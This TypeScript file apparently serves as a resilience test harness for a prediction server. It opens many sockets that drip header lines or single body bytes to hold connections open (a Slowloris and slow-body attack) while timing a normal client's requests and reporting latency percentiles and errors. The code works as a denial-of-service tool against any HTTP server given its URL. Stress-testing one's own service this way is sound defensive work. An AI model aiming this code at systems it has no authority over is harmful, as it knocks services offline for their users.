/**
 * Slowloris and slow bodies: `connections` sockets that trickle one header line (or, for half of
 * them, one body byte) every `dripMs`, while a well-behaved client sends predictions back to back;
 * reports the well-behaved client's latency percentiles and errors.
 */
import { connect, type Socket } from 'node:net';

export interface SlowlorisResult {
  slow_connections: number;
  requests: number;
  errors: number;
  p50_ms: number;
  p99_ms: number;
}

function percentile(sorted: number[], q: number): number {
  if (!sorted.length) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.ceil(q * sorted.length) - 1)];
}

export async function slowloris(o: {
  url: string;
  connections: number;
  durationMs: number;
  dripMs?: number;
  path?: string;
  body: string;
  headers?: Record<string, string>;
}): Promise<SlowlorisResult> {
  const { hostname, port } = new URL(o.url);
  const sockets: Socket[] = [];
  const timers: NodeJS.Timeout[] = [];
  let opened = 0;
  for (let i = 0; i < o.connections; i++) {
    const s = connect(Number(port), hostname);
    s.on('error', () => {});
    s.on('connect', () => {
      opened++;
      const slowBody = i % 2 === 1;
      s.write(
        `POST ${o.path ?? '/predict'} HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n${slowBody ? `Content-Length: 100000\r\n\r\n` : ''}`,
      );
      let n = 0;
      timers.push(setInterval(() => s.writable && s.write(slowBody ? ' ' : `X-Drip-${n++}: a\r\n`), o.dripMs ?? 500));
    });
    sockets.push(s);
  }
  const latencies: number[] = [];
  let errors = 0;
  const end = performance.now() + o.durationMs;
  while (performance.now() < end) {
    const t = performance.now();
    try {
      const res = await fetch(o.url + (o.path ?? '/predict'), {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...o.headers },
        body: o.body,
        signal: AbortSignal.timeout(10_000),
      });
      await res.arrayBuffer();
      if (res.status !== 200) errors++;
      latencies.push(performance.now() - t);
    } catch {
      errors++;
    }
  }
  for (const t of timers) clearInterval(t);
  for (const s of sockets) s.destroy();
  latencies.sort((a, b) => a - b);
  const round = (x: number) => Math.round(x * 10) / 10;
  return {
    slow_connections: opened,
    requests: latencies.length,
    errors,
    p50_ms: round(percentile(latencies, 0.5)),
    p99_ms: round(percentile(latencies, 0.99)),
  };
}
